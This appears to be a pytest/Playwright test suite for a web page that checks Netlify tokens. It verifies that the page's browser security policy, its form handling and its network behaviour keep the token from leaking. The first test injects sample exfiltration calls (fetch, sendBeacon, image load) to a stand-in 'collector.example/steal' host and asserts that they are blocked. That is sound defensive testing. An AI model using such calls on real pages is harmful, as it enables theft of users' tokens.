"""Attempts to get the token out of the page: the browser-enforced policy must stop them."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.audit import audited_context
from tests.checker_page import CheckerPage
from tests.fake_netlify import TOKEN, FakeNetlify


def test_a_script_sending_data_elsewhere_is_blocked_by_the_policy(
    page: Any, site: str, netlify: FakeNetlify
) -> None:
    page.context._test_audit.allow_violations = True
    CheckerPage(page, site).open(wait_ready=False)
    outcome = page.evaluate(
        """async () => {
          const tries = {};
          try { await fetch("https://collector.example/steal?d=x"); tries.fetch = "sent"; }
          catch { tries.fetch = "failed"; }
          tries.beacon = navigator.sendBeacon("https://collector.example/b", "x");
          new Image().src = "https://collector.example/i.png";
          const script = document.createElement("script");
          script.textContent = "window.inlineRan = true";
          document.body.append(script);
          await new Promise((resolve) => setTimeout(resolve, 300));
          tries.inline = window.inlineRan === true;
          return tries;
        }"""
    )
    assert (outcome["fetch"], outcome["inline"]) == ("failed", False)
    violations = page.evaluate("() => window.__policyViolations")
    assert "connect-src blocked https://collector.example/steal?d=x" in violations
    assert "connect-src blocked https://collector.example/b" in violations
    assert "img-src blocked https://collector.example/i.png" in violations
    assert any(v.startswith("script-src-elem blocked inline") for v in violations)


def test_without_javascript_enter_sends_the_token_nowhere(
    browser: Any, site: str, netlify: FakeNetlify
) -> None:
    with audited_context(browser, site, java_script_enabled=False) as ctx:
        ctx._test_audit.allow_violations = True
        page = ctx.new_page()
        page.goto(site)
        # The form ships hidden: without a script there is no field to type a token into.
        assert not page.get_by_label("Personal access token").is_visible()
        assert "needs JavaScript" in page.locator("body").inner_text()
        # And were it shown and submitted, the policy's form-action 'none' would refuse it.
        page.locator("#check-form").evaluate("form => { form.hidden = false; }")
        page.get_by_label("Personal access token").fill(TOKEN)
        page.keyboard.press("Enter")
        page.wait_for_timeout(500)
        assert page.url == site
        assert TOKEN not in page.url
        assert netlify.requests == []
        assert not ctx._test_audit.bodies


def test_netlify_hears_nothing_from_the_page_until_a_check(
    browser: Any, chromium: dict[str, Any], site: str, netlify: FakeNetlify, tmp_path: Path
) -> None:
    # A profile on disk, as a person's is: a private context would skip a preconnect anyway.
    profile = browser.browser_type.launch_persistent_context(
        str(tmp_path / "profile"), ignore_https_errors=True, **chromium
    )
    try:
        checker = CheckerPage(profile.new_page(), site).open()
        # Past the worker's rehearsals of a check, which run for most of a second after ready.
        checker.page.wait_for_timeout(1500)
        # Not even a connection: a preconnect would tell Netlify of every visit, and measured
        # no faster, since the worker's requests never used the connection it opened.
        assert netlify.server.connections == 0
        checker.check(team="acme")
        assert netlify.server.connections > 0
    finally:
        profile.close()


def test_the_token_field_is_not_remembered_or_spellchecked(page: Any, site: str) -> None:
    CheckerPage(page, site).open(wait_ready=False)
    field = page.get_by_label("Personal access token")
    assert field.get_attribute("type") == "password"
    assert field.get_attribute("autocomplete") == "off"
    assert field.get_attribute("spellcheck") == "false"


def test_the_page_has_no_inline_script_or_style(dist: Path) -> None:
    html = (dist / "index.html").read_text()
    assert "<script>" not in html and "<style" not in html and " style=" not in html
    assert "onclick" not in html.lower()


# --- a runtime that will not load ---------------------------------------------------------------


@pytest.mark.parametrize("broken_site", ["wrong-type"], indirect=True)
def test_runtime_files_served_with_the_wrong_type_still_work(
    browser: Any, broken_site: str, netlify: FakeNetlify
) -> None:
    """The worker types what it hands Pyodide itself, so a host's odd MIME types do no harm."""
    with audited_context(browser, broken_site) as ctx:
        checker = CheckerPage(ctx.new_page(), broken_site).open()
        assert "25.3 GiB" in checker.check(team="acme")


@pytest.mark.parametrize("broken_site", ["missing", "truncated"], indirect=True)
def test_a_runtime_that_fails_to_load_is_explained_within_15_seconds(
    browser: Any, broken_site: str, netlify: FakeNetlify
) -> None:
    with audited_context(browser, broken_site) as ctx:
        page = ctx.new_page()
        checker = CheckerPage(page, broken_site).open(wait_ready=False)
        alert_shown = "() => document.querySelector('[role=alert]').textContent !== ''"
        checker.until(alert_shown, None, 15_000)
        assert "Python could not be loaded" in checker.alert.inner_text()
        # Pressing the button tries to load again, and fails again just as clearly.
        checker.submit(team="acme")
        # The second attempt may fail before the status line can be read, so watch the alert,
        # which the press cleared, come back.
        checker.until(alert_shown, None, 15_000)
        assert "Python could not be loaded" in checker.alert.inner_text()
        assert netlify.requests == []
